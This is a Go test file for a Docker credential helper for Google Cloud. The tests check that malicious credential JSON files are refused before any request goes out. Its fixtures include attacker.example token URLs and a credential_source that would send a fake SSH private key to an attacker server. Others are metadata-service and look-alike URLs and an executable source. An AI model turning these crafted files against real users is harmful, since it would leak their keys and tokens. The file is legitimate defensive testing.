package token

import (
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/docker-credential-gcr/docker-credential-gcr/internal/fakegoogle"
)

// reroute is an http.RoundTripper that records the scheme and host of every
// request, then sends it to the local server its host maps to ("*" for any
// other host). A host with no route gets an error: nothing reaches the
// network.
type reroute struct {
	mu    sync.Mutex
	seen  []string          // scheme://host of every request, in order
	to    map[string]string // host (or "*") -> http://127.0.0.1:PORT
	paths map[string]string // path -> path to ask there instead
}

func newReroute(to map[string]string) *reroute { return &reroute{to: to} }

func (r *reroute) RoundTrip(req *http.Request) (*http.Response, error) {
	r.mu.Lock()
	r.seen = append(r.seen, req.URL.Scheme+"://"+req.URL.Host)
	r.mu.Unlock()
	target, ok := r.to[req.URL.Hostname()]
	if !ok {
		target = r.to["*"]
	}
	if target == "" {
		return nil, fmt.Errorf("reroute: no route to %s", req.URL.Host)
	}
	u, err := url.Parse(target)
	if err != nil {
		return nil, err
	}
	out := req.Clone(req.Context())
	out.URL.Scheme, out.URL.Host, out.Host = u.Scheme, u.Host, ""
	if p, ok := r.paths[req.URL.Path]; ok {
		out.URL.Path = p
	}
	return (&http.Transport{}).RoundTrip(out)
}

func (r *reroute) hosts() []string {
	r.mu.Lock()
	defer r.mu.Unlock()
	return append([]string(nil), r.seen...)
}

func (r *reroute) client() *http.Client { return &http.Client{Transport: r} }

// attacker is a server on 127.0.0.1 that answers every request with a
// token and counts what it receives.
type attacker struct {
	*httptest.Server
	mu     sync.Mutex
	n      int
	fields []string // form field names received, never their values
}

func newAttacker(t *testing.T) *attacker {
	a := &attacker{}
	a.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		r.ParseForm()
		a.mu.Lock()
		a.n++
		for k := range r.PostForm {
			a.fields = append(a.fields, k)
		}
		a.mu.Unlock()
		w.Header().Set("Content-Type", "application/json")
		io.WriteString(w, `{"access_token":"ya29.attacker","expires_in":3600,"token_type":"Bearer","accessToken":"ya29.attacker","expireTime":"2099-01-01T00:00:00Z"}`)
	}))
	t.Cleanup(a.Close)
	return a
}

func (a *attacker) count() int {
	a.mu.Lock()
	defer a.mu.Unlock()
	return a.n
}

// trusting returns f's options for the credentials-file source with no
// opt-in: the helper's defaults.
func (f *fixture) trusting(path string) Options {
	o := f.options(SourceCredentialsFile)
	o.AllowCustomURLs = false
	o.IAMEndpoint = ""
	o.CredentialsFile = path
	return o
}

// TestDuplicateKeyRefused (finding 1): an impersonated_service_account whose
// first source_credentials sends a local secret file to an attacker and
// whose second copy looks harmless. The check and the library must see the
// same file: a duplicate key is refused, and nothing is sent.
func TestDuplicateKeyRefused(t *testing.T) {
	f := newFixture(t)
	a := newAttacker(t)
	secret := f.write("id_ed25519", []byte("-----BEGIN OPENSSH PRIVATE KEY-----\nSSH-SECRET\n"))
	for name, file := range map[string]string{
		"source_credentials twice": `{"type":"impersonated_service_account",
			"service_account_impersonation_url":"https://iamcredentials.googleapis.com/v1/projects/-/serviceAccounts/t@p.iam.gserviceaccount.com:generateAccessToken",
			"source_credentials":{"type":"external_account","audience":"a","subject_token_type":"urn:ietf:params:oauth:token-type:jwt","token_url":"` + a.URL + `/token","credential_source":{"file":"` + secret + `"}},
			"source_credentials":{"type":"external_account"}}`,
		"token_url twice in source_credentials": `{"type":"impersonated_service_account",
			"service_account_impersonation_url":"https://iamcredentials.googleapis.com/v1/projects/-/serviceAccounts/t@p.iam.gserviceaccount.com:generateAccessToken",
			"source_credentials":{"type":"external_account","audience":"a","subject_token_type":"urn:ietf:params:oauth:token-type:jwt","token_url":"` + a.URL + `/token","credential_source":{"file":"` + secret + `"},"token_url":"https://sts.googleapis.com/v1/token"}}`,
		"key in another case": `{"type":"external_account","audience":"a","subject_token_type":"urn:ietf:params:oauth:token-type:jwt",
			"TOKEN_URL":"` + a.URL + `/token","token_url":"https://sts.googleapis.com/v1/token","credential_source":{"file":"` + secret + `"}}`,
		"credential_source twice": `{"type":"external_account","audience":"a","subject_token_type":"urn:ietf:params:oauth:token-type:jwt","token_url":"https://sts.googleapis.com/v1/token",
			"credential_source":{"url":"` + a.URL + `/latest"},"credential_source":{"file":"` + secret + `"}}`,
		"type twice": `{"type":"external_account","type":"service_account","token_uri":"https://oauth2.googleapis.com/token"}`,
	} {
		t.Run(name, func(t *testing.T) {
			o := f.trusting(f.write("dup.json", []byte(file)))
			o.HTTPClient = newReroute(map[string]string{"127.0.0.1": a.URL}).client()
			_, err := f.token(o)
			if err == nil || !strings.Contains(err.Error(), "duplicate") {
				t.Errorf("Token() with a duplicate key = %v, want an error naming the duplicate", err)
			}
			if err != nil && strings.Contains(err.Error(), "SSH-SECRET") {
				t.Errorf("Token() error shows the secret file's content")
			}
			if a.count() != 0 {
				t.Errorf("the attacker received %d requests (fields %v), want 0", a.count(), a.fields)
			}
		})
	}
}

// TestUntrustedUniverseRefused (finding 2): a file cannot make its own
// universe trusted. The universes the helper trusts come from its own
// configuration: googleapis.com, s3nsapis.fr and the universe_domain
// setting.
func TestUntrustedUniverseRefused(t *testing.T) {
	f := newFixture(t)
	a := newAttacker(t)
	files := map[string]string{
		"authorized_user": `{"type":"authorized_user","universe_domain":"attacker.example","client_id":"c","client_secret":"s","refresh_token":"1//REFRESH-SECRET-aaaaaaaaaaaaaaaaaaaaaaaa",
			"token_uri":"https://oauth2.attacker.example/token"}`,
		"service_account": `{"type":"service_account","universe_domain":"attacker.example","client_email":"sa@p.iam.gserviceaccount.com","private_key":"x",
			"token_uri":"https://oauth2.attacker.example/token"}`,
		"external_account": `{"type":"external_account","universe_domain":"attacker.example","audience":"a","subject_token_type":"urn:ietf:params:oauth:token-type:jwt",
			"token_url":"https://sts.attacker.example/v1/token","credential_source":{"file":"` + f.write("subject", []byte("SUBJECT")) + `"}}`,
	}
	for name, file := range files {
		for _, universe := range []string{"", DefaultUniverse} { // print-access-token, get gcr.io
			t.Run(name+" "+universe, func(t *testing.T) {
				rr := newReroute(map[string]string{"*": a.URL})
				o := f.trusting(f.write("u.json", []byte(file)))
				o.HTTPClient = rr.client()
				o.Universe = universe
				_, err := f.token(o)
				for _, want := range []string{"attacker.example", "--universe-domain", "DOCKER_CREDENTIAL_GCR_UNIVERSE_DOMAIN"} {
					if err == nil || !strings.Contains(err.Error(), want) {
						t.Errorf("Token() with a file of universe attacker.example = %v, want a refusal naming %q", err, want)
					}
				}
				if err != nil && strings.Contains(err.Error(), "REFRESH-SECRET") {
					t.Errorf("Token() error shows the refresh token")
				}
				if a.count() != 0 || len(rr.hosts()) != 0 {
					t.Errorf("requests sent: %v (attacker got %d), want none", rr.hosts(), a.count())
				}
			})
		}
	}

	// The user's own universe_domain setting is the way to trust one.
	t.Run("universe_domain setting", func(t *testing.T) {
		o := f.trusting(f.write("u.json", []byte(files["authorized_user"])))
		o.HTTPClient = newReroute(map[string]string{"*": a.URL}).client()
		o.DefaultUniverse = "attacker.example"
		o.Universe = "attacker.example"
		if _, err := f.token(o); err != nil || a.count() != 1 {
			t.Errorf("Token() with universe_domain=attacker.example set = %v after %d requests, want the file's token after 1", err, a.count())
		}
	})
}

// TestMissingEndpointDefaultsToFileUniverse (finding 4): a file of
// s3nsapis.fr without token_uri / token_url is served by s3nsapis.fr's
// endpoints, never googleapis.com's.
func TestMissingEndpointDefaultsToFileUniverse(t *testing.T) {
	f := newFixture(t)
	s3ns, err := fakegoogle.New(fakegoogle.Options{Universe: "s3nsapis.fr", RealHosts: true})
	if err != nil {
		t.Fatal(err)
	}
	defer s3ns.Close()
	key, err := s3ns.NewServiceAccount("sa@p.s3ns.iam.gserviceaccount.com")
	if err != nil {
		t.Fatal(err)
	}
	var m map[string]any
	json.Unmarshal(key, &m)
	delete(m, "token_uri")
	noURI, _ := json.Marshal(m)

	ext, err := s3ns.NewExternalAccount("wif@p.s3ns.iam.gserviceaccount.com", f.dir)
	if err != nil {
		t.Fatal(err)
	}
	json.Unmarshal(ext, &m)
	m["audience"] = strings.Replace(m["audience"].(string), "googleapis.com", "s3nsapis.fr", 1)
	delete(m, "token_url")
	noURL, _ := json.Marshal(m)

	for name, tt := range map[string]struct {
		file        []byte
		want, email string
	}{
		"service_account without token_uri":  {noURI, "https://oauth2.s3nsapis.fr", "sa@p.s3ns.iam.gserviceaccount.com"},
		"external_account without token_url": {noURL, "https://sts.s3nsapis.fr", "wif@p.s3ns.iam.gserviceaccount.com"},
	} {
		t.Run(name, func(t *testing.T) {
			rr := newReroute(map[string]string{"*": s3ns.URL})
			o := f.trusting(f.write("s3ns.json", tt.file))
			o.HTTPClient = rr.client()
			o.Universe = "s3nsapis.fr"
			tok, err := f.token(o)
			if got := rr.hosts(); len(got) != 1 || got[0] != tt.want {
				t.Errorf("requests = %v, want one to %s", got, tt.want)
			}
			if err != nil {
				if name == "external_account without token_url" && strings.Contains(err.Error(), "invalid_target") {
					return // the fake's STS knows only its googleapis.com audience
				}
				t.Fatalf("Token() = %v, want a token", err)
			}
			if p, ok := s3ns.Principal(tok.AccessToken); !ok || p != tt.email || tok.Universe != "s3nsapis.fr" {
				t.Errorf("Token() = principal %q (%v), universe %q; want %s of s3nsapis.fr", p, ok, tok.Universe, tt.email)
			}
		})
	}
}

// TestAWSURLsChecked (finding 5): the URLs of an AWS-sourced
// external_account are checked like every other: only AWS's metadata
// addresses are allowed.
func TestAWSURLsChecked(t *testing.T) {
	f := newFixture(t)
	a := newAttacker(t)
	good := map[string]string{
		"region_url":               "http://169.254.169.254/latest/meta-data/placement/availability-zone",
		"url":                      "http://169.254.169.254/latest/meta-data/iam/security-credentials",
		"imdsv2_session_token_url": "http://169.254.169.254/latest/api/token",
	}
	for field := range good {
		for _, bad := range []string{"http://attacker.example/x", "https://169.254.169.254.attacker.example/x", "http://127.0.0.1:1/x", "http://user@169.254.169.254/x"} {
			t.Run(field+" "+bad, func(t *testing.T) {
				cs := map[string]string{"environment_id": "aws1", "regional_cred_verification_url": "https://sts.{region}.amazonaws.com?Action=GetCallerIdentity&Version=2011-06-15"}
				for k, v := range good {
					cs[k] = v
				}
				cs[field] = bad
				file, _ := json.Marshal(map[string]any{"type": "external_account", "audience": "a", "subject_token_type": "urn:ietf:params:aws:token-type:aws4_request",
					"token_url": "https://sts.googleapis.com/v1/token", "credential_source": cs})
				rr := newReroute(map[string]string{"*": a.URL})
				o := f.trusting(f.write("aws.json", file))
				o.HTTPClient = rr.client()
				_, err := f.token(o)
				if err == nil || !strings.Contains(err.Error(), "credential_source."+field) {
					t.Errorf("Token() with %s=%s = %v, want a refusal naming credential_source.%s", field, bad, err, field)
				}
				if len(rr.hosts()) != 0 {
					t.Errorf("requests sent: %v, want none", rr.hosts())
				}
			})
		}
	}
}

// ghaURL is what a GitHub Actions runner puts in ACTIONS_ID_TOKEN_REQUEST_URL.
const ghaURL = "https://pipelinesghubeus2.actions.githubusercontent.com/AbCd/00000000-0000-0000-0000-000000000000/_apis/distributedtask/hubs/Actions/plans/p/jobs/j/idtoken?api-version=2.0"

// ghaCreds is the file google-github-actions/auth writes.
func ghaCreds(requestURL, audience string) []byte {
	b, _ := json.MarshalIndent(map[string]any{
		"type":               "external_account",
		"audience":           audience,
		"subject_token_type": "urn:ietf:params:oauth:token-type:jwt",
		"token_url":          "https://sts.googleapis.com/v1/token",
		"credential_source": map[string]any{
			"url":     requestURL + "&audience=" + url.QueryEscape("https:"+audience),
			"headers": map[string]string{"Authorization": "Bearer RUNNER-REQUEST-SECRET"},
			"format":  map[string]string{"type": "json", "subject_token_field_name": "value"},
		},
	}, "", "  ")
	return b
}

// TestGitHubActionsCredentialFile: google-github-actions/auth's file works
// by default when its credential_source.url is the runner's own
// ACTIONS_ID_TOKEN_REQUEST_URL (the runner, not the file, vouches for it);
// any other URL is refused with the way to trust it.
func TestGitHubActionsCredentialFile(t *testing.T) {
	f := newFixture(t)
	g, err := fakegoogle.New(fakegoogle.Options{RealHosts: true})
	if err != nil {
		t.Fatal(err)
	}
	defer g.Close()
	// The runner's OIDC endpoint: the fake's subject token for the principal.
	ext, err := g.NewExternalAccount("ci@p.iam.gserviceaccount.com", f.dir)
	if err != nil {
		t.Fatal(err)
	}
	var cred struct {
		Audience         string `json:"audience"`
		CredentialSource struct {
			File string `json:"file"`
		} `json:"credential_source"`
	}
	json.Unmarshal(ext, &cred)
	subject, _ := os.ReadFile(cred.CredentialSource.File)
	var runnerAsked int
	runner := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		runnerAsked++
		if r.Header.Get("Authorization") != "Bearer RUNNER-REQUEST-SECRET" {
			http.Error(w, "no", http.StatusUnauthorized)
			return
		}
		json.NewEncoder(w).Encode(map[string]string{"value": string(subject)})
	}))
	defer runner.Close()
	ghaHost := "pipelinesghubeus2.actions.githubusercontent.com"
	route := map[string]string{ghaHost: runner.URL, "sts.googleapis.com": g.URL}

	t.Run("the runner's URL", func(t *testing.T) {
		f.env["ACTIONS_ID_TOKEN_REQUEST_URL"] = ghaURL
		defer delete(f.env, "ACTIONS_ID_TOKEN_REQUEST_URL")
		rr := newReroute(route)
		o := f.trusting(f.write("gha-creds-0123456789abcdef.json", ghaCreds(ghaURL, cred.Audience)))
		o.HTTPClient = rr.client()
		tok, err := f.token(o)
		if err != nil {
			t.Fatalf("Token() with the gha-creds file = %v, want a token", err)
		}
		if p, ok := g.Principal(tok.AccessToken); !ok || p != "ci@p.iam.gserviceaccount.com" || runnerAsked != 1 {
			t.Errorf("Token() principal = %q (%v) after %d runner requests, want ci@p.iam.gserviceaccount.com after 1", p, ok, runnerAsked)
		}
	})
	for name, tt := range map[string]struct{ env, fileURL string }{
		"no runner":       {"", ghaURL},
		"another host":    {ghaURL, strings.Replace(ghaURL, "pipelinesghubeus2.actions.githubusercontent.com", "attacker.example", 1)},
		"another path":    {ghaURL, strings.Replace(ghaURL, "/idtoken", "/other", 1)},
		"another scheme":  {ghaURL, strings.Replace(ghaURL, "https:", "http:", 1)},
		"user info":       {ghaURL, strings.Replace(ghaURL, "https://", "https://x@", 1)},
		"metadata server": {ghaURL, "http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token?x=y"},
	} {
		t.Run(name, func(t *testing.T) {
			if tt.env != "" {
				f.env["ACTIONS_ID_TOKEN_REQUEST_URL"] = tt.env
				defer delete(f.env, "ACTIONS_ID_TOKEN_REQUEST_URL")
			}
			rr := newReroute(nil)
			o := f.trusting(f.write("gha-creds-0123456789abcdef.json", ghaCreds(tt.fileURL, cred.Audience)))
			o.HTTPClient = rr.client()
			_, err := f.token(o)
			if err == nil || !strings.Contains(err.Error(), "DOCKER_CREDENTIAL_GCR_ALLOW_CUSTOM_CREDENTIAL_URLS=1") || !strings.Contains(err.Error(), "credential_source.url") {
				t.Errorf("Token() with credential_source.url %s = %v, want a refusal naming credential_source.url and DOCKER_CREDENTIAL_GCR_ALLOW_CUSTOM_CREDENTIAL_URLS=1", tt.fileURL, err)
			}
			if err != nil && strings.Contains(err.Error(), "from Google") {
				t.Errorf("Token() error = %v, which tells the user to get a file from Google; the file comes from their CI", err)
			}
			if len(rr.hosts()) != 0 {
				t.Errorf("requests sent: %v, want none", rr.hosts())
			}
		})
	}
}

// TestExecutableSourceNeedsBothOptIns: credential_source.executable runs a
// program: refused unless the user trusts custom credential files, and even
// then Google's own GOOGLE_EXTERNAL_ACCOUNT_ALLOW_EXECUTABLES=1 gate holds.
func TestExecutableSourceNeedsBothOptIns(t *testing.T) {
	f := newFixture(t)
	ran := filepath.Join(f.dir, "ran")
	prog := f.write("bin/subject", []byte("#!/bin/sh\ntouch "+ran+"\nexit 1\n"))
	os.Chmod(prog, 0o755)
	file, _ := json.Marshal(map[string]any{"type": "external_account", "audience": "a", "subject_token_type": "urn:ietf:params:oauth:token-type:jwt",
		"token_url": "https://sts.googleapis.com/v1/token", "credential_source": map[string]any{"executable": map[string]any{"command": prog}}})
	o := f.trusting(f.write("exec.json", file))
	o.HTTPClient = newReroute(nil).client()
	_, err := f.token(o)
	if err == nil || !strings.Contains(err.Error(), "executable") || !strings.Contains(err.Error(), "DOCKER_CREDENTIAL_GCR_ALLOW_CUSTOM_CREDENTIAL_URLS=1") || !strings.Contains(err.Error(), "GOOGLE_EXTERNAL_ACCOUNT_ALLOW_EXECUTABLES=1") {
		t.Errorf("Token() with an executable source = %v, want a refusal naming both opt-ins", err)
	}
	t.Setenv("GOOGLE_EXTERNAL_ACCOUNT_ALLOW_EXECUTABLES", "")
	o.AllowCustomURLs = true
	_, err = f.token(o)
	if err == nil || !strings.Contains(err.Error(), "GOOGLE_EXTERNAL_ACCOUNT_ALLOW_EXECUTABLES") {
		t.Errorf("Token() with allow_custom_credential_urls only = %v, want Google's own refusal", err)
	}
	if _, err := os.Stat(ran); err == nil {
		t.Errorf("the executable ran without GOOGLE_EXTERNAL_ACCOUNT_ALLOW_EXECUTABLES=1")
	}
}

// TestIAMEndpointSetting (finding 8, the token part): the iam_endpoint
// setting receives a bearer token; it must be IAM Credentials of a trusted
// universe or a Private Service Connect name, unless the user opts in.
func TestIAMEndpointSetting(t *testing.T) {
	for _, ok := range []string{
		"https://iamcredentials.googleapis.com", "https://iamcredentials.googleapis.com/", "https://iamcredentials.s3nsapis.fr",
		"https://iamcredentials.us-east1.rep.googleapis.com", "https://iamcredentials-myendpoint.p.googleapis.com",
	} {
		if _, err := New(Options{IAMEndpoint: ok}); err != nil {
			t.Errorf("New(IAMEndpoint: %s) = %v, want nil", ok, err)
		}
	}
	for _, bad := range []string{
		"https://attacker.example", "http://iamcredentials.googleapis.com", "https://iamcredentials.googleapis.com.attacker.example",
		"https://u:p@iamcredentials.googleapis.com", "https://iamcredentials.googleapis.com:8443", "http://127.0.0.1:8080",
		"https://iamcredentials.attacker.example", "https://iamcredentials.googleapis.com/x", "https://iamcredentials.googleapis.com?x=1",
	} {
		_, err := New(Options{IAMEndpoint: bad})
		if err == nil || !strings.Contains(err.Error(), "iam_endpoint") || !strings.Contains(err.Error(), "DOCKER_CREDENTIAL_GCR_IAM_ENDPOINT") {
			t.Errorf("New(IAMEndpoint: %s) = %v, want a refusal naming iam_endpoint and DOCKER_CREDENTIAL_GCR_IAM_ENDPOINT", bad, err)
		}
		if _, err := New(Options{IAMEndpoint: bad, AllowCustomURLs: true}); err != nil {
			t.Errorf("New(IAMEndpoint: %s, AllowCustomURLs) = %v, want nil", bad, err)
		}
	}
	// The universe_domain setting is trusted too.
	if _, err := New(Options{IAMEndpoint: "https://iamcredentials.example.org", DefaultUniverse: "example.org"}); err != nil {
		t.Errorf("New(IAMEndpoint of the universe_domain setting) = %v, want nil", err)
	}
	_ = errors.New
}

// TestLibraryErrorsShowNoSecret: what the library says when a trusted
// (opted-in) subject-token URL fails carries neither the URL's user
// information or query nor the server's answer.
func TestLibraryErrorsShowNoSecret(t *testing.T) {
	f := newFixture(t)
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		http.Error(w, "denied: you sent key=BODY-SECRET and "+r.Header.Get("Authorization"), http.StatusForbidden)
	}))
	defer srv.Close()
	file, _ := json.Marshal(map[string]any{"type": "external_account", "audience": "a", "subject_token_type": "urn:ietf:params:oauth:token-type:jwt",
		"token_url": "https://sts.googleapis.com/v1/token",
		"credential_source": map[string]any{"url": strings.Replace(srv.URL, "http://", "http://u:pw-SECRET@", 1) + "/token?key=QUERY-SECRET#FRAG-SECRET",
			"headers": map[string]string{"Authorization": "Bearer HEADER-SECRET"}}})
	o := f.trusting(f.write("url.json", file))
	o.AllowCustomURLs = true
	_, err := f.token(o)
	if err == nil || !strings.Contains(err.Error(), "status code 403") {
		t.Fatalf("Token() = %v, want the library's status code 403", err)
	}
	if strings.Contains(err.Error(), "SECRET") {
		t.Errorf("Token() error shows a secret: %v", err)
	}
}
